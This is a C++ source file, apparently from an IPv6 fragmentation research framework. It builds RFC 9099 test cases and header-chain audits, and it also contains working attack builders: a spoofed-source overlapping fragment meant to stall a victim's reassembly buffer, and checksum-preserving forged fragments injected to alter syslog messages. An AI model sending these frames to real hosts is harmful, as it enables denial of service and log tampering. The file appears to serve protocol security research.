#include "frag6/scenarios.hpp"

#include <map>
#include <optional>
#include <span>

namespace frag6::scenarios {

namespace {

wire::Frame fragment_frame(const Rfc9099Params& p, std::uint8_t body_next,
                           std::uint16_t offset_units, bool m_flag,
                           std::span<const std::uint8_t> body) {
  wire::Ipv6Header h;
  h.next_header = wire::kProtoFragment;
  h.src = p.src;
  h.dst = p.dst;
  wire::FragmentHeader fh;
  fh.offset_units = offset_units;
  fh.m_flag = m_flag;
  fh.identification = p.identification;
  wire::ExtHeaderChain chain;
  chain.entries.push_back(wire::make_fragment_entry(fh, body_next));
  chain.upper_protocol = body_next;
  return wire::serialize_packet(h, chain, body);
}

wire::Icmpv6Echo checksummed_echo(const Rfc9099Params& p, Bytes payload) {
  wire::Icmpv6Echo echo;
  echo.identifier = p.echo_identifier;
  echo.sequence = p.echo_sequence;
  echo.payload = std::move(payload);
  wire::Ipv6Header h;
  h.src = p.src;
  h.dst = p.dst;
  const Bytes msg = echo.serialize();
  echo.checksum = checksum::internet_checksum(
      wire::pseudo_for(h, static_cast<std::uint32_t>(msg.size()),
                       wire::kProtoIcmpv6),
      msg);
  return echo;
}

std::optional<int> chain_rank(std::uint8_t kind) {
  switch (kind) {
    case wire::kProtoHopByHop: return 0;
    case wire::kProtoDestOptions: return 1;
    case wire::kProtoRouting: return 2;
    case wire::kProtoFragment: return 3;
    default: return std::nullopt;
  }
}

bool is_extension_kind(std::uint8_t proto) {
  return proto == wire::kProtoHopByHop || proto == wire::kProtoRouting ||
         proto == wire::kProtoFragment || proto == wire::kProtoDestOptions;
}

}  // namespace

Rfc9099Case rfc9099_experiment_one(const Rfc9099Params& params) {
  Rfc9099Case c;
  c.name = "rfc9099-exp1";
  // The destination-options header travels inside the final fragment's
  // body; after reassembly its bytes are ordinary echo payload.
  const wire::ExtHeader dest =
      wire::make_destination_options_entry(wire::kProtoIcmpv6);
  Bytes payload = bytes_of("AAAAAAAA");
  append(payload, dest.raw);
  append(payload, bytes_of("BBBBBBBB"));
  const Bytes msg = checksummed_echo(params, std::move(payload)).serialize();
  const std::span<const std::uint8_t> m(msg);
  c.frames.push_back(
      fragment_frame(params, wire::kProtoIcmpv6, 0, true, m.first(8)));
  c.frames.push_back(
      fragment_frame(params, wire::kProtoIcmpv6, 1, true, m.subspan(8, 8)));
  c.frames.push_back(
      fragment_frame(params, wire::kProtoDestOptions, 2, false, m.subspan(16, 16)));
  c.geometry = {{'A', 0, 1, true, true, std::nullopt},
                {'B', 1, 1, true, false, std::nullopt},
                {'C', 2, 2, false, false, std::nullopt}};
  c.expected_extent_units = 4;
  return c;
}

Rfc9099Case rfc9099_experiment_two(const Rfc9099Params& params) {
  Rfc9099Case c;
  c.name = "rfc9099-exp2";
  const Bytes msg = checksummed_echo(params, bytes_of("BBBBBBBB")).serialize();
  const std::span<const std::uint8_t> m(msg);
  c.frames.push_back(fragment_frame(params, wire::kProtoIcmpv6, 0, true, {}));
  c.frames.push_back(
      fragment_frame(params, wire::kProtoIcmpv6, 0, true, m.first(8)));
  c.frames.push_back(
      fragment_frame(params, wire::kProtoIcmpv6, 1, false, m.subspan(8, 8)));
  c.geometry = {{'A', 0, 0, true, false, std::nullopt},
                {'B', 0, 1, true, true, std::nullopt},
                {'C', 1, 1, false, false, std::nullopt}};
  c.expected_extent_units = 2;
  return c;
}

ChainAudit audit_header_chain(const wire::ParsedPacket& packet) {
  ChainAudit audit;
  std::map<std::uint8_t, int> counts;
  std::optional<int> last_rank;
  for (const auto& e : packet.chain.entries) {
    ++counts[e.kind];
    const auto rank = chain_rank(e.kind);
    if (rank && last_rank && *rank < *last_rank) {
      audit.ordered = false;
      audit.findings.push_back("header kind " + std::to_string(e.kind) +
                               " appears after a later-ranked header");
    }
    if (rank) last_rank = rank;
  }
  for (const auto& [kind, n] : counts) {
    const int allowed = kind == wire::kProtoDestOptions ? 2 : 1;
    if (n > allowed) {
      audit.repetition_ok = false;
      audit.findings.push_back("header kind " + std::to_string(kind) +
                               " appears " + std::to_string(n) + " times");
    }
  }
  audit.complete_in_first = header_chain_complete(packet);
  if (!audit.complete_in_first)
    audit.findings.push_back("offset-0 fragment does not reach the upper-layer header");
  return audit;
}

bool header_chain_complete(const wire::ParsedPacket& packet) {
  if (!packet.fragment || packet.fragment->offset_units != 0) return true;
  return packet.upper_raw.size() >= wire::kUpperHeaderBytes;
}

bool extension_headers_spread(const std::vector<wire::Frame>& frames) {
  for (const auto& f : frames) {
    const auto p = wire::parse_frame(f);
    if (p.fragment && p.fragment->offset_units > 0 &&
        is_extension_kind(p.fragment->next_header))
      return true;
  }
  return false;
}

wire::Frame dos_overlap_fragment(std::uint32_t identification,
                                 const wire::Ipv6Address& victim_src,
                                 const wire::Ipv6Address& target_dst,
                                 reassembly::UnitRange span) {
  if (span.end <= span.begin)
    throw GeometryMismatch("dos_overlap_fragment: empty span");
  if (span.end > wire::kMaxOffsetUnits)
    throw GeometryMismatch("dos_overlap_fragment: span exceeds the offset field");
  wire::Ipv6Header h;
  h.next_header = wire::kProtoFragment;
  h.src = victim_src;
  h.dst = target_dst;
  wire::FragmentHeader fh;
  fh.offset_units = static_cast<std::uint16_t>(span.begin);
  fh.m_flag = true;  // keeps the victim buffer waiting instead of completing
  fh.identification = identification;
  wire::ExtHeaderChain chain;
  chain.entries.push_back(wire::make_fragment_entry(fh, wire::kProtoUdp));
  chain.upper_protocol = wire::kProtoUdp;
  const Bytes body((span.end - span.begin) * wire::kUnitBytes, 'X');
  return wire::serialize_packet(h, chain, body);
}

ForgedFragment forge_modification_fragment(const wire::Frame& original,
                                           ForgeStrategy strategy,
                                           const ForgeOptions& options) {
  wire::ParsedPacket parsed = wire::parse_frame(original);
  if (!parsed.fragment || parsed.fragment->offset_units == 0)
    throw GeometryMismatch("forge_modification_fragment: need a nonzero-offset fragment");
  if (parsed.upper_raw.empty())
    throw GeometryMismatch("forge_modification_fragment: fragment body is empty");

  ForgedFragment out;
  out.original_body = parsed.upper_raw;
  switch (strategy) {
    case ForgeStrategy::Shuffle:
      out.forged_body =
          checksum::checksum_preserving_shuffle(out.original_body, options.seed);
      break;
    case ForgeStrategy::DeltaCompensation: {
      if (options.replacement.size() != out.original_body.size())
        throw GeometryMismatch(
            "forge_modification_fragment: replacement must match the body size");
      Bytes body = options.replacement;
      const std::uint16_t w =
          checksum::checksum_compensate(out.original_body, body, options.slot);
      body[options.slot] = static_cast<std::uint8_t>(w >> 8);
      body[options.slot + 1] = static_cast<std::uint8_t>(w & 0xff);
      out.forged_body = std::move(body);
      break;
    }
  }
  parsed.upper_raw = out.forged_body;
  out.frame = wire::serialize_parsed(parsed);
  return out;
}

std::string sample_log_message() {
  return "Jun 1 20:47:08 git sshd[88459]: Accepted publickey for git from "
         "10.10.10.100 port 49240 ssh2: ED25519 "
         "SHA256:vNTXCU7b6C6mqvcaH7j1/uRC5unllTpG5kCtd01xxoc";
}

std::vector<wire::Frame> syslog_frames(const wire::Ipv6Address& src,
                                       const wire::Ipv6Address& dst,
                                       const SyslogSplit& split) {
  const std::string text = split.priority + sample_log_message();
  const std::size_t first = split.priority.size() + split.first_text_bytes;
  const std::size_t first_total = wire::kUpperHeaderBytes + first;
  if (first_total % wire::kUnitBytes != 0)
    throw GeometryMismatch("syslog_frames: first fragment not unit-aligned");
  if (split.second_text_bytes % wire::kUnitBytes != 0)
    throw GeometryMismatch("syslog_frames: second fragment not unit-aligned");
  if (first + split.second_text_bytes >= text.size())
    throw GeometryMismatch("syslog_frames: nothing left for the final fragment");

  wire::UdpDatagram udp;
  udp.src_port = split.src_port;
  udp.dst_port = split.dst_port;
  udp.payload = bytes_of(text);

  wire::Ipv6Header h;
  h.next_header = wire::kProtoFragment;
  h.src = src;
  h.dst = dst;
  Bytes datagram = udp.serialize();
  const std::uint16_t ck = checksum::internet_checksum(
      wire::pseudo_for(h, static_cast<std::uint32_t>(datagram.size()),
                       wire::kProtoUdp),
      datagram);
  udp.checksum = ck == 0 ? 0xffff : ck;  // zero means "no checksum" in UDP
  datagram = udp.serialize();

  const auto units = [](std::size_t bytes) {
    return static_cast<std::uint16_t>((bytes + wire::kUnitBytes - 1) /
                                      wire::kUnitBytes);
  };
  const std::uint16_t u1 = units(first_total);
  const std::uint16_t u2 = units(split.second_text_bytes);
  const std::vector<wire::FragmentSpec> geometry = {
      {'1', 0, u1, true, true, std::nullopt},
      {'2', u1, u2, true, false, std::nullopt},
      {'3', static_cast<std::uint16_t>(u1 + u2),
       units(datagram.size() - first_total - split.second_text_bytes), false,
       false, std::nullopt},
  };
  wire::ExtHeaderChain chain;
  chain.upper_protocol = wire::kProtoUdp;
  return wire::fragment_packet(h, chain, datagram, geometry,
                               split.identification);
}

std::vector<wire::Frame> syslog_attack_frames(const wire::Ipv6Address& src,
                                              const wire::Ipv6Address& dst,
                                              ForgeStrategy strategy,
                                              const ForgeOptions& options,
                                              Injection injection,
                                              const SyslogSplit& split) {
  const auto legit = syslog_frames(src, dst, split);
  const auto forged = forge_modification_fragment(legit[1], strategy, options);
  std::vector<wire::Frame> out;
  out.push_back(legit[0]);
  if (injection == Injection::Before) {
    out.push_back(forged.frame);
    out.push_back(legit[1]);
  } else {
    out.push_back(legit[1]);
    out.push_back(forged.frame);
  }
  out.push_back(legit[2]);
  return out;
}

}  // namespace frag6::scenarios
